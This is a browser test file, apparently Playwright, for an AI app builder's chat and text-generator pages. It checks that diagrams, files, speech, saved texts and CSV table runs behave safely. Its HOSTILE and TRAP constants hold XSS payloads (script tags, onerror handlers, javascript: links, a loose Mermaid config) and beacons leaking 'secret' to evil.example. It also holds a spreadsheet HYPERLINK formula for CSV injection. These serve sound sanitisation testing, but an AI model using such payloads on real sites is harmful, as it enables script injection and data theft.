// What visitors of the pages see: diagrams, hostile answers, files and speech with a question, kept texts, a table run
// while the model is busy, and calm words when something is wrong. Run by tests/browser with a server's base URL.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { ask, blank, launch, signUp, until, watched } from './browser.mjs'
import { looker } from './axe.mjs'
import { fakeModel, useProvider } from './fake-model.mjs'

const base = process.argv[2]
const shots = process.env.SHOTS

const GRAPH = '```mermaid\nflowchart TD\n  A[Ask] --> B{Known?}\n  B -->|yes| C[Answer]\n  B -->|no| D[Search]\n```'
const TRAP = '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://evil.example/x) }"}}%%\nflowchart TD\n  A["<img src=x onerror=window.owned=1>"] --> B["<script>window.owned=1</script>"]\n  click A "javascript:window.owned=1"\n```'
const HOSTILE = [
  'before-the-storm',
  '<script>window.owned=1</script><img src=x onerror="window.owned=1"><svg onload="window.owned=1"><iframe src="https://evil.example/"></iframe>',
  '[run](javascript:window.owned=1) [data](data:text/html,<script>window.owned=1</script>) [vb](vbscript:x)',
  '![beacon](https://evil.example/p.png?q=secret) ![inside](/files/../console/api/logout)',
  '[reference][r]\n\n[r]: https://evil.example/?q=secret "t"',
  '<style>*{display:none}</style><form action="https://evil.example"><input name=p></form>',
  '<a href="https://evil.example" ping="https://evil.example/ping">ping</a>',
  '$$\\href{javascript:window.owned=1}{x}\\includegraphics{https://evil.example/m.png}\\htmlStyle{background:url(https://evil.example)}{y}$$',
  '```mermaid\nflowchart TD\n  A --> --> broken((\n```',
  TRAP,
  `|${' h |'.repeat(60)}\n|${'---|'.repeat(60)}\n${`|${' x |'.repeat(60)}\n`.repeat(300)}`,
  'after-the-storm',
].join('\n\n')

/** A picture of one dot. */
const DOT = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

let refused = 2
const browser = await launch()
const { page, problems } = await watched(browser, base)
const look = looker(page)
const model = await fakeModel({
  GRAPH,
  HOSTILE,
  BUSY: () => (refused-- > 0 ? 429 : 'Done after all.'),
  FORMULA: '=HYPERLINK("https://evil.example","x")',
  SLOWLY: 'a slow answer '.repeat(400),
})

async function publish() {
  await page.getByText('Unpublished changes').waitFor()
  await page.getByRole('button', { name: 'Publish' }).click()
  await page.getByText('As published').waitFor()
  return page.getByRole('link', { name: 'Open the page' }).getAttribute('href')
}

/** A chat app that takes files and speech, its page opened by somebody with a microphone. */
async function chat() {
  await blank(page, 'Assistant', '<img src=x onerror=window.owned=1> desk')
  for (const name of ['Take pictures', 'Take speech', 'Read answers aloud']) await page.getByRole('switch', { name }).click()
  const link = await publish()
  const visitor = await watched(browser, base, { permissions: ['microphone'] })
  const seen = visitor.page
  await seen.goto(link)
  const log = seen.getByRole('log')

  await ask(seen, 'GRAPH please')
  const diagram = log.getByRole('img', { name: 'A diagram' })
  await diagram.waitFor()
  const width = () => diagram.evaluate((image) => image.naturalWidth)
  await until(async () => (await width()) > 50, 'the diagram is drawn')
  if (shots) await seen.screenshot({ path: `${shots}/diagram.png` })
  if (shots) await seen.evaluate(() => (document.documentElement.dataset.theme = 'dark'))
  if (shots) await seen.waitForTimeout(1500)
  if (shots) await seen.screenshot({ path: `${shots}/diagram-dark.png` })
  if (shots) await seen.evaluate(() => delete document.documentElement.dataset.theme)

  await ask(seen, 'HOSTILE please')
  await log.getByText('after-the-storm').waitFor()
  // Of the three diagrams the first and the trap are drawn; the broken one stays text. Then nothing is left to happen.
  await until(async () => (await diagram.count()) === 2, 'the trap is drawn')
  await log.locator('pre').getByText('broken((').waitFor()
  await log.getByRole('table').waitFor()
  await seen.waitForLoadState('networkidle')
  assert.equal(await log.locator('script, iframe, form, style, object, embed, a[ping], [onerror], [onload]').count(), 0)
  assert.equal(await log.locator('a[href^="javascript"], a[href^="data"], a[href^="vbscript"]').count(), 0)
  assert.deepEqual(await log.locator('img').evaluateAll((images) => images.map(({ src }) => src).filter((src) => !src.startsWith('blob:'))), [])
  assert.equal(await seen.evaluate(() => window.owned), undefined)
  assert.ok((await seen.evaluate(() => document.documentElement.scrollWidth - innerWidth)) <= 0, 'the page is wider than the window')
  if (shots) await seen.screenshot({ path: `${shots}/hostile.png` })

  const file = (name, mimeType, text) => ({ name, mimeType, buffer: Buffer.from(text) })
  const chooser = seen.locator('input[type=file]')
  await chooser.setInputFiles([{ name: '<b>note.png', mimeType: 'image/png', buffer: Buffer.from(DOT, 'base64') }])
  await seen.getByRole('list', { name: 'Files' }).getByText('<b>note.png').waitFor()
  await chooser.setInputFiles([file('film.mp4', 'video/mp4', 'no film')])
  await seen.getByText('does not take files of this kind').waitFor()
  if (shots) await seen.screenshot({ path: `${shots}/files.png` })
  await ask(seen, 'What is on the picture?')
  await log.getByRole('list', { name: 'Files' }).getByText('<b>note.png').waitFor()
  await log.getByText('This is small').waitFor()
  // An earlier answer can say the same, and the name of the conversation is asked for too: whichever request brought it.
  const isShown = () => model.asked.some((request) => JSON.stringify(request).includes('image_url'))
  await until(isShown, 'the model is given the picture')

  await seen.getByRole('button', { name: 'Speak' }).click()
  await seen.getByRole('button', { name: 'Stop recording' }).waitFor()
  await seen.waitForTimeout(600)
  await seen.getByRole('button', { name: 'Stop recording' }).click()
  await seen.getByText('When does the ferry leave?').waitFor()
  const spoken = seen.waitForResponse((answer) => answer.url().endsWith('/api/text-to-audio'))
  await log.getByRole('button', { name: 'Read aloud' }).last().click()
  assert.equal((await spoken).status(), 200)

  // Two megabytes of text: cut, said, and the page goes on.
  await seen.getByLabel('Your question').evaluate((box) => {
    const clipboardData = new DataTransfer()
    clipboardData.setData('text/plain', 'many words '.repeat(200_000))
    box.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
  })
  await seen.getByText('A question has at most').waitFor()
  await seen.getByLabel('Your question').fill('')

  // Stopped in the middle: what came stays.
  await ask(seen, 'SLOWLY please')
  await log.getByText('a slow answer').first().waitFor()
  assert.deepEqual(visitor.problems, [])
  await seen.getByRole('button', { name: 'Stop' }).click()
  await seen.getByRole('button', { name: 'Send' }).waitFor()
  await log.getByText('a slow answer').first().waitFor()
  assert.deepEqual(visitor.problems, [])
  await visitor.context.close()
}

async function generator() {
  await blank(page, 'Text generator', 'Words')
  const link = await page.getByRole('link', { name: 'Open the page' }).getAttribute('href')
  const visitor = await watched(browser, base)
  const seen = visitor.page
  await seen.goto(link)
  await seen.getByLabel('Text').fill('boats')
  await seen.getByRole('button', { name: 'Generate' }).click()
  await seen.getByText('This is small').waitFor()
  await look('the text generator', seen)
  await seen.getByRole('button', { name: 'Keep this text' }).click()
  await seen.getByRole('tab', { name: 'Saved' }).click()
  await seen.getByText('This is small').waitFor()
  await look('saved texts', seen)
  if (shots) await seen.screenshot({ path: `${shots}/saved.png` })
  await seen.getByRole('button', { name: 'Delete' }).click()
  await seen.getByText('Nothing is kept so far').waitFor()

  await seen.getByRole('tab', { name: 'Run a table' }).click()
  await seen.locator('input[type=file]').setInputFiles({ name: 'wrong.csv', mimeType: 'text/csv', buffer: Buffer.from('other\n1\n') })
  await seen.getByRole('alert').getByText('Missing: query').waitFor()
  await seen.locator('input[type=file]').setInputFiles({ name: 'rows.csv', mimeType: 'text/csv', buffer: Buffer.from('query\nBUSY\nFORMULA\n"=1+1, ""quoted"""\n') })
  await seen.getByRole('button', { name: 'Run', exact: true }).click()
  await seen.getByText('3 / 3').waitFor()
  await seen.getByText('Done after all.').waitFor()
  await look('a table of texts', seen)
  const [download] = await Promise.all([seen.waitForEvent('download'), seen.getByRole('button', { name: 'Results' }).click()])
  const table = readFileSync(await download.path(), 'utf8')
  assert.match(table, /BUSY,Done after all\./)
  // A spreadsheet must not take an answer for a formula.
  assert.ok(!/(^|,|\n)"?=/m.test(table), table)
  assert.deepEqual(visitor.problems, [])
  await visitor.context.close()
}

try {
  await signUp(page)
  await useProvider(page, model.url)
  await chat()
  await generator()
  await page.goto('/apps')
  await page.getByRole('link', { name: '<img src=x onerror=window.owned=1> desk' }).waitFor()
  assert.equal(await page.evaluate(() => window.owned), undefined)
  assert.deepEqual(problems, [])
  console.log('diagrams, hostile answers, files, speech, kept texts, tables: as they should be')
} catch (error) {
  for (const [at, shown] of browser.contexts().flatMap((context) => context.pages()).entries()) await shown.screenshot({ path: `built/failed${at || ''}.png` }).catch(() => {})
  console.error(`at ${page.url()}; the page is in console/built/failed.png`)
  throw error
} finally {
  model.end()
  await browser.close()
}
